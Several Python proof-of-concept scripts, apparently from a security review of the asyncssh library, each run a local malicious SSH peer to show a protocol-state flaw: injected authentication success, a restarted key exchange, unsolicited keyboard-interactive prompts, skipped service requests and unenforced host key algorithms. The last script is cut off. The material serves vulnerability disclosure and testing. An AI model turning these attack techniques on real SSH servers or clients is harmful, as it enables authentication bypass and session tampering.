TIMEOUT = 10

sign_started = 0
sign_finished = 0
sent_by_server = []


class Server(asyncssh.SSHServer):
    def connection_made(self, conn):
        orig = conn.send_packet

        def send_packet(pkttype, *args, handler=None):
            orig(pkttype, *args, handler=handler)

            if pkttype == MSG_USERAUTH_PK_OK:
                sent_by_server.append('PK_OK')
                # the injected / out of phase message
                orig(MSG_USERAUTH_SUCCESS)
                sent_by_server.append('SUCCESS')

        conn.send_packet = send_packet

    def begin_auth(self, username):
        return True

    def public_key_auth_supported(self):
        return True

    def validate_public_key(self, username, key):
        return True


async def main():
    host_key = asyncssh.generate_private_key('ssh-ed25519')
    user_key = asyncssh.generate_private_key('ssh-ed25519')

    keypair = asyncssh.load_keypairs(user_key)[0]
    real_sign = keypair.sign

    async def sign_async(data):
        """Signing takes a moment, as with an agent or a hardware token"""

        global sign_started, sign_finished

        sign_started += 1
        await asyncio.sleep(0.5)
        sign_finished += 1
        return real_sign(data)

    keypair.sign_async = sign_async

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key])
    port = server.sockets[0].getsockname()[1]

    try:
        conn = await asyncio.wait_for(
            asyncssh.connect('127.0.0.1', port, username='user',
                             known_hosts=None, client_keys=[keypair],
                             agent_path=None, password=None,
                             preferred_auth='publickey'),
            TIMEOUT)
    except asyncio.TimeoutError:
        print('FAIL: connect() hung')
        return 1
    except (asyncssh.Error, OSError) as exc:
        print('server sent:', sent_by_server)
        print('OK: client refused the unsolicited SUCCESS:', exc)
        return 0
    finally:
        server.close()

    print('server sent:', sent_by_server)
    print('client signatures started=%d finished=%d' %
          (sign_started, sign_finished))
    print('client _auth_complete =', conn._auth_complete)
    print('VIOLATION: connect() returned an authenticated connection; the '
          'USERAUTH_SUCCESS following PK_OK was accepted although the signed '
          'request had not been sent (no request of the client outstanding)')
    conn.abort()
    return 1


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
