#!/venv/bin/python
"""C06 demo 2: a second KEXINIT is accepted in the middle of the FIRST key
exchange -- after the endpoint has sent its own NEWKEYS but before it has
received the peer's NEWKEYS.

At that point the only message the exchange calls for is NEWKEYS (RFC 4253
7.1: between KEXINIT and NEWKEYS "further SSH_MSG_KEXINIT messages MUST NOT
be sent").  _process_kexinit() rejects a second KEXINIT only while
self._kex is set, but send_newkeys() clears self._kex, so in this window a
cleartext KEXINIT silently starts another exchange: the keys of the first
exchange are thrown away for the receive direction and the connection goes
on with the keys of the second one.

A raw-socket client (no strict-KEX support advertised) is used against an
asyncssh server:

    C: version, KEXINIT, KEX_ECDH_INIT
    S: KEXINIT, KEX_ECDH_REPLY, NEWKEYS
    C: KEXINIT                <- instead of NEWKEYS, in the clear
    S: (should disconnect)    actually: KEXINIT, encrypted with exchange 1 keys
    C: KEX_ECDH_INIT          in the clear
    S: KEX_ECDH_REPLY, NEWKEYS
    C: NEWKEYS, SERVICE_REQUEST(ssh-userauth) encrypted with exchange 2 keys
    S: SERVICE_ACCEPT

exit 0: the server ended the connection on the second KEXINIT; exit 1: it
ran the second exchange and accepted the service request.
"""

import asyncio
import hashlib
import os
import sys

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

import asyncssh
from asyncssh.encryption import get_encryption
from asyncssh.packet import Byte, String, UInt32, MPInt, NameList, Boolean
from asyncssh.packet import SSHPacket

TIMEOUT = 5

MSG_DISCONNECT, MSG_SERVICE_REQUEST, MSG_SERVICE_ACCEPT = 1, 5, 6
MSG_KEXINIT, MSG_NEWKEYS, MSG_ECDH_INIT, MSG_ECDH_REPLY = 20, 21, 30, 31

ENC, MAC = b'aes128-ctr', b'hmac-sha2-256'
VERSION = b'SSH-2.0-rawclient'

server_conns = []
lost = []


class Server(asyncssh.SSHServer):
    def connection_made(self, conn):
        server_conns.append(conn)

    def connection_lost(self, exc):
        lost.append(exc)


class Raw:
    """Just enough of the binary packet protocol"""

    def __init__(self, reader, writer):
        self.reader, self.writer = reader, writer
        self.send_seq = self.recv_seq = 0
        self.send_enc = self.recv_enc = None

    def send(self, payload):
        blk = 16 if self.send_enc else 8
        padlen = -(5 + len(payload)) % blk
        if padlen < 4:
            padlen += blk
        packet = Byte(padlen) + payload + os.urandom(padlen)
        hdr = UInt32(len(packet))
        if self.send_enc:
            data, mac = self.send_enc.encrypt_packet(self.send_seq, hdr, packet)
            self.writer.write(data + mac)
        else:
            self.writer.write(hdr + packet)
        self.send_seq += 1

    async def recv(self):
        async def rd(n):
            return await asyncio.wait_for(self.reader.readexactly(n), TIMEOUT)

        if self.recv_enc:
            first = await rd(16)
            first, pktlen = self.recv_enc.decrypt_header(self.recv_seq,
                                                         first, 4)
            n = int.from_bytes(pktlen, 'big')
            rest = await rd(4 + n - 16)
            mac = await rd(32)
            data = self.recv_enc.decrypt_packet(self.recv_seq, first, rest,
                                                4, mac)
            if not data:
                raise ValueError('MAC error on received packet')
        else:
            n = int.from_bytes(await rd(4), 'big')
            data = await rd(n)
        self.recv_seq += 1
        return data[1:len(data) - data[0]]


def kexinit():
    return b''.join((Byte(MSG_KEXINIT), os.urandom(16),
                     NameList([b'curve25519-sha256']),
                     NameList([b'ssh-ed25519']),
                     NameList([ENC]), NameList([ENC]),
                     NameList([MAC]), NameList([MAC]),
                     NameList([b'none']), NameList([b'none']),
                     NameList([]), NameList([]), Boolean(False), UInt32(0)))


def derive(k, h, session_id, letter, size):
    key = hashlib.sha256(k + h + letter + session_id).digest()
    while len(key) < size:
        key += hashlib.sha256(k + h + key).digest()
    return key[:size]


def make_keys(k, h, session_id):
    def d(letter, size):
        return derive(k, h, session_id, letter, size)

    c2s = get_encryption(ENC, d(b'C', 16), d(b'A', 16), MAC, d(b'E', 32), False)
    s2c = get_encryption(ENC, d(b'D', 16), d(b'B', 16), MAC, d(b'F', 32), False)
    return c2s, s2c


async def exchange(raw, server_version, i_c, i_s):
    """Send KEX_ECDH_INIT, read KEX_ECDH_REPLY, return K and H"""

    priv = X25519PrivateKey.generate()
    q_c = priv.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    raw.send(Byte(MSG_ECDH_INIT) + String(q_c))

    reply = SSHPacket(await raw.recv())
    pkttype = reply.get_byte()
    if pkttype != MSG_ECDH_REPLY:
        return pkttype, None, None

    k_s = reply.get_string()
    q_s = reply.get_string()
    reply.get_string()      # signature, not checked by this 'attacker'

    from cryptography.hazmat.primitives.asymmetric.x25519 import \
        X25519PublicKey
    shared = priv.exchange(X25519PublicKey.from_public_bytes(q_s))
    k = MPInt(int.from_bytes(shared, 'big'))
    h = hashlib.sha256(String(VERSION) + String(server_version) +
                       String(i_c) + String(i_s) + String(k_s) +
                       String(q_c) + String(q_s) + k).digest()
    return pkttype, k, h


async def main():
    host_key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key])
    port = server.sockets[0].getsockname()[1]

    reader, writer = await asyncio.open_connection('127.0.0.1', port)
    raw = Raw(reader, writer)

    try:
        writer.write(VERSION + b'\r\n')
        server_version = (await asyncio.wait_for(reader.readline(),
                                                 TIMEOUT)).rstrip(b'\r\n')

        # ---- first exchange, by the book
        i_c1 = kexinit()
        raw.send(i_c1)
        i_s1 = await raw.recv()
        assert i_s1[0] == MSG_KEXINIT

        pkttype, k1, h1 = await exchange(raw, server_version, i_c1, i_s1)
        assert pkttype == MSG_ECDH_REPLY
        assert (await raw.recv())[0] == MSG_NEWKEYS
        session_id = h1
        c2s_1, s2c_1 = make_keys(k1, h1, session_id)
        raw.recv_enc = s2c_1            # the server has sent NEWKEYS

        print('exchange 1 done up to the server\'s NEWKEYS; the only message '
              'now called for from the client is NEWKEYS')

        # ---- instead of NEWKEYS: a second cleartext KEXINIT
        i_c2 = kexinit()
        raw.send(i_c2)

        try:
            answer = await raw.recv()
        except (asyncio.IncompleteReadError, ConnectionError):
            print('OK: server closed the connection on the second KEXINIT')
            return 0

        if answer[0] == MSG_DISCONNECT:
            print('OK: server answered the second KEXINIT with DISCONNECT:',
                  SSHPacket(answer[5:]).get_string())
            return 0

        while answer[0] != MSG_KEXINIT:     # skip IGNOREs and the like
            print('   (server sent message type %d)' % answer[0])
            answer = await raw.recv()

        i_s2 = answer
        sconn = server_conns[0]
        print('server answered the second KEXINIT with a KEXINIT of its own, '
              'server-side _kex =', type(sconn._kex).__name__)

        pkttype, k2, h2 = await exchange(raw, server_version, i_c2, i_s2)
        if pkttype != MSG_ECDH_REPLY:
            print('OK: second exchange refused, got message type', pkttype)
            return 0

        assert (await raw.recv())[0] == MSG_NEWKEYS
        c2s_2, s2c_2 = make_keys(k2, h2, session_id)
        raw.recv_enc = s2c_2

        # ---- our (single) NEWKEYS, then talk with the keys of exchange 2
        raw.send(Byte(MSG_NEWKEYS))
        raw.send_enc = c2s_2
        raw.send(Byte(MSG_SERVICE_REQUEST) + String(b'ssh-userauth'))

        try:
            answer = await raw.recv()
            while answer[0] in (2, 7):      # IGNORE, EXT_INFO
                answer = await raw.recv()
        except (asyncio.IncompleteReadError, ConnectionError, ValueError) as e:
            print('OK?: connection did not survive:', repr(e))
            return 0

        if answer[0] == MSG_SERVICE_ACCEPT:
            print('server sent SERVICE_ACCEPT under the keys of exchange 2; '
                  'connection_lost called:', bool(lost))
            print('VIOLATION: a KEXINIT sent where only NEWKEYS is allowed '
                  'took effect: the first key exchange was silently restarted '
                  'and the session continues with other keys')
            return 1

        print('OK?: unexpected answer type', answer[0])
        return 0
    finally:
        writer.close()
        server.close()


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 30)))
    except asyncio.TimeoutError:
        print('FAIL: demo hung')
        sys.exit(2)
