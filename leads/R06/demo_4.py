#!/venv/bin/python
"""C06 demo 4: the client acts on a method-specific server message (type 60,
USERAUTH_INFO_REQUEST) although it has not sent the request this message
would be the answer to.

After USERAUTH_FAILURE the client creates the handler for its next attempt at
once (try_next_auth -> _ClientKbdIntAuth) and installs it as self._auth; the
USERAUTH_REQUEST itself goes out later, from the handler's _start() task
(after the application's kbdint_auth_requested() has been asked).
_recv_packet() routes types 60..79 to self._auth as soon as it is set, and
_ClientKbdIntAuth._process_info_request() has no notion of "my request has
been sent".  So an INFO_REQUEST right behind the FAILURE
  - cancels the pending _start() task (the keyboard-interactive
    USERAUTH_REQUEST is never sent),
  - hands the prompts to the application (kbdint_challenge_received), and
  - makes the client send USERAUTH_INFO_RESPONSE with the answers, for a
    keyboard-interactive exchange it never opened.
(The same happens with PASSWD_CHANGEREQ in _ClientPasswordAuth: the client
asks the application for old+new password and sends them.)

This is the client-side mirror image of the known server-side problem with
a pipelined INFO_RESPONSE.

The server side is an asyncssh server which is hand-driven: its send_packet
is wrapped so that an INFO_REQUEST is sent right behind the first FAILURE.

exit 0: the client did not act on the INFO_REQUEST; exit 1: it prompted the
application and sent an INFO_RESPONSE.
"""

import asyncio
import sys

import asyncssh
from asyncssh.constants import MSG_USERAUTH_REQUEST, MSG_USERAUTH_FAILURE
from asyncssh.auth import MSG_USERAUTH_INFO_REQUEST, MSG_USERAUTH_INFO_RESPONSE
from asyncssh.packet import String, UInt32, Boolean, SSHPacket

TIMEOUT = 10

server_sent = []
client_sent = []
client_events = []
done = None


class Server(asyncssh.SSHServer):
    def connection_made(self, conn):
        orig = conn.send_packet
        injected = []

        def send_packet(pkttype, *args, handler=None):
            orig(pkttype, *args, handler=handler)

            if pkttype == MSG_USERAUTH_FAILURE and not injected:
                injected.append(True)
                server_sent.append('FAILURE')
                orig(MSG_USERAUTH_INFO_REQUEST, String('injected'),
                     String('out of phase'), String(''), UInt32(1),
                     String('Tell me a secret: '), Boolean(False))
                server_sent.append('INFO_REQUEST')

        conn.send_packet = send_packet

    def begin_auth(self, username):
        return True

    def kbdint_auth_supported(self):
        return True

    def get_kbdint_challenge(self, username, lang, submethods):
        return 'real', 'real', '', [('Password: ', False)]

    def validate_kbdint_response(self, username, responses):
        return False


class Client(asyncssh.SSHClient):
    def connection_made(self, conn):
        orig = conn.send_packet

        def send_packet(pkttype, *args, handler=None):
            if pkttype == MSG_USERAUTH_REQUEST:
                packet = SSHPacket(b''.join(args))
                packet.get_string()
                packet.get_string()
                client_sent.append('USERAUTH_REQUEST(%s)' %
                                   packet.get_string().decode())
            elif pkttype == MSG_USERAUTH_INFO_RESPONSE:
                client_sent.append('USERAUTH_INFO_RESPONSE')
                done.set()

            orig(pkttype, *args, handler=handler)

        conn.send_packet = send_packet

    async def kbdint_auth_requested(self):
        # e.g. the application asks the user whether to try this method
        client_events.append('kbdint_auth_requested: started')
        await asyncio.sleep(0.5)
        client_events.append('kbdint_auth_requested: finished')
        return ''

    def kbdint_challenge_received(self, name, instructions, lang, prompts):
        client_events.append('kbdint_challenge_received(%r, %r)' %
                             (name, prompts))
        return ['the secret']

    def connection_lost(self, exc):
        done.set()


async def main():
    global done
    done = asyncio.Event()

    host_key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key])
    port = server.sockets[0].getsockname()[1]

    async def connect():
        try:
            conn = await asyncssh.connect(
                '127.0.0.1', port, username='user', known_hosts=None,
                client_factory=Client, client_keys=None, agent_path=None,
                preferred_auth='keyboard-interactive')
            conn.abort()
        except (asyncssh.Error, OSError) as exc:
            client_events.append('connect() failed: %s' % exc)

    task = asyncio.ensure_future(connect())

    try:
        await asyncio.wait_for(done.wait(), TIMEOUT)
        await asyncio.wait_for(task, TIMEOUT)
    except asyncio.TimeoutError:
        print('FAIL: hung')
        return 2
    finally:
        server.close()

    print('server sent  :', server_sent)
    print('client sent  :', client_sent)
    print('client events:')
    for event in client_events:
        print('   ', event)

    opened = 'USERAUTH_REQUEST(keyboard-interactive)' in client_sent
    answered = 'USERAUTH_INFO_RESPONSE' in client_sent
    prompted = any(e.startswith('kbdint_challenge_received(\'injected\'')
                   for e in client_events)

    if prompted or answered:
        print('VIOLATION: the INFO_REQUEST took effect (application prompted: '
              '%s, INFO_RESPONSE sent: %s) although the client had sent no '
              'keyboard-interactive request (sent: %s)' %
              (prompted, answered, opened))
        return 1

    print('OK: the out of phase INFO_REQUEST had no effect')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
