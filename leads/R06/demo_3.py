#!/venv/bin/python
"""C06 demo 3: the server acts on USERAUTH_REQUEST although the ssh-userauth
service was never requested (no SERVICE_REQUEST / SERVICE_ACCEPT).

After NEWKEYS the server has self._next_service = 'ssh-userauth' and
_auth_in_progress = False: the authentication protocol has not started, the
only thing the dialogue calls for is SERVICE_REQUEST.  _recv_packet() lets
types 50..53 through as soon as receive encryption is on, and
_process_userauth_request() never looks at _auth_in_progress, so the whole
authentication runs (begin_auth, validate_password, USERAUTH_SUCCESS) in a
phase where it should not.  Side effects of the skipped phase change:
_can_recv_ext_info stays True for the rest of the connection (EXT_INFO is
accepted after authentication), and a banner the server queues during
begin_auth() is held back until after USERAUTH_SUCCESS.

The client is an asyncssh client hand-driven to behave like a peer which
leaves the SERVICE_REQUEST out.

exit 0: the server refused; exit 1: the client got authenticated and ran a
command without the service ever being requested.
"""

import asyncio
import sys

import asyncssh
from asyncssh.connection import SSHClientConnection
from asyncssh.constants import MSG_EXT_INFO
from asyncssh.packet import UInt32

TIMEOUT = 10

server_conns = []
service_requests_sent = []
events = []


class Server(asyncssh.SSHServer):
    def connection_made(self, conn):
        server_conns.append(conn)

    def begin_auth(self, username):
        events.append('begin_auth(%s) with _auth_in_progress=%s' %
                      (username, server_conns[0]._auth_in_progress))
        return True

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        events.append('validate_password')
        return password == 'secret'


def skip_service_request(self, service):
    """What a peer which doesn't bother with SERVICE_REQUEST does"""

    service_requests_sent.append(False)
    self._next_service = None
    self._auth_in_progress = True
    self.try_next_auth()        # sends USERAUTH_REQUEST 'none' right away


async def handle(process):
    process.stdout.write('hello\n')
    process.exit(0)


async def main():
    SSHClientConnection.send_service_request = skip_service_request

    host_key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key],
                                   process_factory=handle)
    port = server.sockets[0].getsockname()[1]

    try:
        conn = await asyncio.wait_for(
            asyncssh.connect('127.0.0.1', port, username='user',
                             known_hosts=None, client_keys=None,
                             agent_path=None, password='secret'), TIMEOUT)
    except asyncio.TimeoutError:
        print('FAIL: connect() hung')
        return 2
    except (asyncssh.Error, OSError) as exc:
        print('OK: server refused the out of phase USERAUTH_REQUEST:', exc)
        return 0
    finally:
        server.close()

    try:
        result = await asyncio.wait_for(conn.run('x'), TIMEOUT)
        sconn = server_conns[0]

        print('client sent SERVICE_REQUEST:', bool(service_requests_sent
                                                   and all(service_requests_sent)))
        print('server events:', events)
        print('server _auth_complete=%s, _next_service=%r, '
              '_can_recv_ext_info=%s' % (sconn._auth_complete,
                                         sconn._next_service,
                                         sconn._can_recv_ext_info))
        print('command output:', repr(result.stdout))

        # follow-on: EXT_INFO is still taken after authentication
        conn.send_packet(MSG_EXT_INFO, UInt32(0))
        result = await asyncio.wait_for(conn.run('x'), TIMEOUT)
        print('EXT_INFO sent after auth, connection still usable:',
              repr(result.stdout))
    except (asyncssh.Error, OSError, asyncio.TimeoutError) as exc:
        print('   (follow-on step failed: %r)' % exc)

    print('VIOLATION: USERAUTH_REQUEST took effect (user authenticated, '
          'session opened) although ssh-userauth was never requested or '
          'accepted')
    conn.abort()
    return 1


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
