#!/usr/bin/env python
"""C03 demo 1: the host key signature algorithm negotiated on one connection
is overwritten by the KEXINIT of ANOTHER connection to the same server.

SSHServerConnection.choose_server_host_key() records the negotiated host
key algorithm by calling keypair.set_sig_algorithm(alg) on the SSHKeyPair
object taken from options.server_host_keys.  That object is shared by all
connections accepted by the listener, and it is consulted again only later,
when KEX*_INIT arrives and the exchange hash is signed (host_key.sign(h)).
A KEXINIT of a second client which arrives in between silently changes the
algorithm used for the first client.  The client side never checks that the
signature (or host key) algorithm it gets is the one that was negotiated
(SSHKey.verify() accepts anything in all_sig_algorithms), so the handshake
completes with an algorithm which is not on the client's list at all.

Client A offers server_host_key_algs = [rsa-sha2-512] only.
Client B offers server_host_key_algs = [ssh-rsa] (RSA with SHA-1).
A goes through a TCP relay which alters nothing: it only delays A's
KEX_ECDH_INIT until B's KEXINIT has been handled by the server, and it
reads the (cleartext) signature algorithm name out of the KEX_ECDH_REPLY.

Expected: A's exchange hash is signed with rsa-sha2-512, or A's handshake
fails.  Exit 0 in that case, exit 1 when A completes with another algorithm.
"""

import asyncio
import struct
import sys

import asyncssh

HOST = '127.0.0.1'
TIMEOUT = 10


class Relay:
    """Byte-exact TCP relay which can hold client->server data after KEXINIT"""

    def __init__(self, target_port):
        self.target_port = target_port
        self.release = asyncio.Event()
        self.held = asyncio.Event()         # client sent a packet after KEXINIT
        self.sig_alg = None                 # alg name in KEX_ECDH_REPLY signature
        self.client_host_key_algs = None
        self.tasks = []

    async def start(self):
        self.server = await asyncio.start_server(self._accept, HOST, 0)
        return self.server.sockets[0].getsockname()[1]

    def stop(self):
        self.server.close()

        for task in self.tasks:
            task.cancel()

    async def _accept(self, cr, cw):
        sr, sw = await asyncio.open_connection(HOST, self.target_port)
        self.tasks.append(asyncio.ensure_future(self._pump('c2s', cr, sw)))
        self.tasks.append(asyncio.ensure_future(self._pump('s2c', sr, cw)))

    async def _pump(self, direction, reader, writer):
        try:
            writer.write(await reader.readline())       # version line
            idx = 0

            while True:
                hdr = await reader.readexactly(4)
                body = await reader.readexactly(struct.unpack('>I', hdr)[0])
                payload = body[1:len(body) - body[0]]

                if direction == 'c2s' and idx == 0:
                    # KEXINIT: type, cookie, kex algs, host key algs
                    pos = 17
                    klen = struct.unpack('>I', payload[pos:pos+4])[0]
                    pos += 4 + klen
                    hlen = struct.unpack('>I', payload[pos:pos+4])[0]
                    self.client_host_key_algs = \
                        payload[pos+4:pos+4+hlen].split(b',')

                if direction == 'c2s' and idx == 1:
                    self.held.set()
                    await self.release.wait()

                if direction == 's2c' and payload[0] == 31:
                    pos = 1
                    for _ in range(2):                  # K_S, Q_S
                        slen = struct.unpack('>I', payload[pos:pos+4])[0]
                        pos += 4 + slen
                    pos += 4                            # signature blob length
                    alen = struct.unpack('>I', payload[pos:pos+4])[0]
                    self.sig_alg = payload[pos+4:pos+4+alen]

                writer.write(hdr + body)                # forwarded unchanged
                idx += 1

                if payload[0] == 21:                    # NEWKEYS
                    break

            while True:
                data = await reader.read(65536)

                if not data:
                    break

                writer.write(data)
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False                                    # no auth needed


async def main():
    rsa_key = asyncssh.generate_private_key('ssh-rsa', key_size=2048)
    trusted = ([rsa_key.convert_to_public()], [], [])

    listener = await asyncssh.listen(HOST, 0, server_factory=Server,
                                     server_host_keys=[rsa_key])
    server_port = listener.sockets[0].getsockname()[1]

    relay = Relay(server_port)
    relay_port = await relay.start()

    common = dict(username='user', client_keys=None, known_hosts=trusted,
                  kex_algs=['curve25519-sha256'])

    # Client A: only the SHA-512 RSA signature is acceptable
    task_a = asyncio.ensure_future(asyncssh.connect(
        HOST, relay_port, server_host_key_algs=['rsa-sha2-512'], **common))

    # A's KEXINIT has reached the server, A's KEX_ECDH_INIT is held back
    await asyncio.wait_for(relay.held.wait(), TIMEOUT)
    await asyncio.sleep(0.3)                            # let server handle it

    # Client B: a complete, perfectly ordinary connection asking for ssh-rsa
    conn_b = await asyncio.wait_for(asyncssh.connect(
        HOST, server_port, server_host_key_algs=['ssh-rsa'], **common),
        TIMEOUT)
    conn_b.close()
    await asyncio.wait_for(conn_b.wait_closed(), TIMEOUT)

    # Now let A continue
    relay.release.set()

    try:
        conn_a = await asyncio.wait_for(task_a, TIMEOUT)
    except (asyncssh.Error, OSError) as exc:
        print('OK: handshake of client A failed:', exc)
        completed = False
    else:
        completed = True
        conn_a.close()
        await asyncio.wait_for(conn_a.wait_closed(), TIMEOUT)

    relay.stop()
    listener.close()

    offered = relay.client_host_key_algs
    print('client A offered host key algs :', offered)
    print('signature alg in A\'s KEX reply  :', relay.sig_alg)
    print('client A handshake completed   :', completed)

    if completed and relay.sig_alg not in offered:
        print('VIOLATION: client A completed a handshake whose exchange hash '
              'was signed with %s, which is not on its list %s; it was '
              'selected by the KEXINIT of an unrelated connection' %
              (relay.sig_alg.decode(), [a.decode() for a in offered]))
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timed out')
        sys.exit(2)
