#!/usr/bin/env python
"""C03 demo 2: the client never negotiates (or enforces) the host key algorithm.

SSHConnection._process_kexinit() chooses kex, cipher, MAC and compression
algorithms with _choose_alg(), but on the client side nothing is ever done
with the server's server_host_key_algorithms list: the client neither checks
that the two lists have an algorithm in common, nor remembers which one was
negotiated.  _KexDHBase._process_reply()/_KexRSA._process_done() then accept
whatever key type and signature algorithm the server happens to use, as long
as the key is trusted (SSHKey.verify() only checks all_sig_algorithms of the
key it was handed).

A hand-written server (raw socket, curve25519-sha256) is used as the peer.
The client trusts two keys for the host (an Ed25519 and an RSA one) but is
told server_host_key_algs=['ssh-ed25519'], i.e. RSA/SHA-1 is not acceptable.

 scenario 1: server KEXINIT offers 'ssh-ed25519,ssh-rsa' -> negotiated host
             key algorithm is ssh-ed25519, server nevertheless sends its RSA
             key and an 'ssh-rsa' (SHA-1) signature.
 scenario 2: server KEXINIT offers only 'ssh-rsa' -> there is NO common host
             key algorithm, the key exchange must fail at KEXINIT.

In both the client should abort the key exchange.  The server checks whether
the client answers the KEX_ECDH_REPLY with NEWKEYS (it accepted the exchange
and switched to the derived keys).  Exit 1 if it does, 0 if it refuses.
"""

import asyncio
import hashlib
import os
import struct
import sys

from cryptography.hazmat.primitives.asymmetric import x25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

import asyncssh
from asyncssh.packet import Byte, Boolean, MPInt, NameList, String, UInt32

HOST = '127.0.0.1'
TIMEOUT = 10
SERVER_VERSION = b'SSH-2.0-HandWrittenServer_1.0'


def frame(payload):
    padlen = -(5 + len(payload)) % 8

    if padlen < 4:
        padlen += 8

    pkt = bytes([padlen]) + payload + os.urandom(padlen)
    return struct.pack('>I', len(pkt)) + pkt


async def read_payload(reader):
    hdr = await reader.readexactly(4)
    body = await reader.readexactly(struct.unpack('>I', hdr)[0])
    return body[1:len(body) - body[0]]


def get_string(data, pos):
    slen = struct.unpack('>I', data[pos:pos+4])[0]
    return data[pos+4:pos+4+slen], pos + 4 + slen


class RawServer:
    def __init__(self, rsa_key, offered_host_key_algs):
        self.rsa_key = rsa_key
        self.offered = offered_host_key_algs
        self.client_host_key_algs = None
        self.result = None
        self.done = asyncio.Event()

    async def start(self):
        self.server = await asyncio.start_server(self.handle, HOST, 0)
        return self.server.sockets[0].getsockname()[1]

    async def handle(self, reader, writer):
        try:
            self.result = await asyncio.wait_for(self.run(reader, writer),
                                                 TIMEOUT)
        except (asyncio.IncompleteReadError, ConnectionError):
            self.result = 'client closed the connection'
        except asyncio.TimeoutError:
            self.result = 'timeout'
        finally:
            writer.close()
            self.done.set()

    async def run(self, reader, writer):
        writer.write(SERVER_VERSION + b'\r\n')
        client_version = (await reader.readline()).rstrip(b'\r\n')

        server_kexinit = b''.join((
            Byte(20), os.urandom(16), NameList([b'curve25519-sha256']),
            NameList(self.offered),
            NameList([b'aes128-ctr']), NameList([b'aes128-ctr']),
            NameList([b'hmac-sha2-256']), NameList([b'hmac-sha2-256']),
            NameList([b'none']), NameList([b'none']),
            NameList([]), NameList([]), Boolean(False), UInt32(0)))
        writer.write(frame(server_kexinit))

        client_kexinit = await read_payload(reader)
        assert client_kexinit[0] == 20
        _, pos = get_string(client_kexinit, 17)
        algs, _ = get_string(client_kexinit, pos)
        self.client_host_key_algs = algs.split(b',')

        init = await read_payload(reader)

        if init[0] == 1:
            reason, _ = get_string(init, 5)
            return 'client sent DISCONNECT at KEXINIT: ' + reason.decode()

        assert init[0] == 30
        q_c, _ = get_string(init, 1)

        priv = x25519.X25519PrivateKey.generate()
        q_s = priv.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        k = int.from_bytes(
            priv.exchange(x25519.X25519PublicKey.from_public_bytes(q_c)), 'big')

        k_s = self.rsa_key.public_data
        h = hashlib.sha256(b''.join((
            String(client_version), String(SERVER_VERSION),
            String(client_kexinit), String(server_kexinit), String(k_s),
            String(q_c), String(q_s), MPInt(k)))).digest()

        sig = self.rsa_key.sign(h, b'ssh-rsa')          # RSA with SHA-1

        writer.write(frame(Byte(31) + String(k_s) + String(q_s) + String(sig)))
        writer.write(frame(Byte(21)))

        answer = await read_payload(reader)

        if answer[0] == 21:
            return 'NEWKEYS'
        elif answer[0] == 1:
            reason, _ = get_string(answer, 5)
            return 'client sent DISCONNECT: ' + reason.decode()
        else:
            return 'client sent message %d' % answer[0]


async def scenario(num, rsa_key, ed_key, server_list):
    raw = RawServer(rsa_key, server_list)
    port = await raw.start()

    trusted = ([ed_key.convert_to_public(), rsa_key.convert_to_public()],
               [], [])

    try:
        conn = await asyncio.wait_for(asyncssh.connect(
            HOST, port, username='user', client_keys=None,
            known_hosts=trusted, server_host_key_algs=['ssh-ed25519'],
            kex_algs=['curve25519-sha256'], encryption_algs=['aes128-ctr'],
            mac_algs=['hmac-sha2-256'], compression_algs=['none']), TIMEOUT)
    except (asyncssh.Error, OSError, asyncio.TimeoutError) as exc:
        client_exc = exc
    else:                                               # pragma: no cover
        client_exc = None
        conn.abort()

    await asyncio.wait_for(raw.done.wait(), TIMEOUT)
    raw.server.close()

    print('scenario %d' % num)
    print('  client offered host key algs:', raw.client_host_key_algs)
    print('  server offered host key algs:', server_list)
    print('  server used                 : RSA host key, ssh-rsa signature')
    print('  client answered the reply   :', raw.result)
    print('  client connect() ended with :', repr(client_exc))

    return raw.result == 'NEWKEYS'


async def main():
    rsa_key = asyncssh.generate_private_key('ssh-rsa', key_size=2048)
    ed_key = asyncssh.generate_private_key('ssh-ed25519')

    bad1 = await scenario(1, rsa_key, ed_key, [b'ssh-ed25519', b'ssh-rsa'])
    bad2 = await scenario(2, rsa_key, ed_key, [b'ssh-rsa'])

    if bad1:
        print('VIOLATION (1): negotiated host key algorithm is ssh-ed25519 '
              '(first on the client\'s list the server supports), but the '
              'client completed the key exchange with an RSA key and an '
              'ssh-rsa signature, which it never offered')

    if bad2:
        print('VIOLATION (2): the host key algorithm lists have nothing in '
              'common, yet the client completed the key exchange')

    if bad1 or bad2:
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timed out')
        sys.exit(2)
