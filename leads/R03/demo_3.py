#!/usr/bin/env python
"""C03 demo 3: cleartext DH handshake messages can be edited in transit and
the handshake still completes (mpint fields are not bound byte-for-byte).

_KexDHBase._parse_client_key()/_parse_server_key() and
_KexDHGex._process_group() read e, f, p and g with SSHPacket.get_mpint(),
which accepts any encoding (int.from_bytes(..., signed=True)), including
non-minimal ones with superfluous leading zero bytes.  The exchange hash is
then computed over a RE-ENCODED value (MPInt(self._e), MPInt(self._f),
MPInt(p) + MPInt(g)), not over the bytes received.  The ECDH / hybrid
methods hash the received octets, the finite-field DH methods don't.  So
an on-path party can rewrite KEXDH_INIT, KEXDH_REPLY and KEX_DH_GEX_GROUP
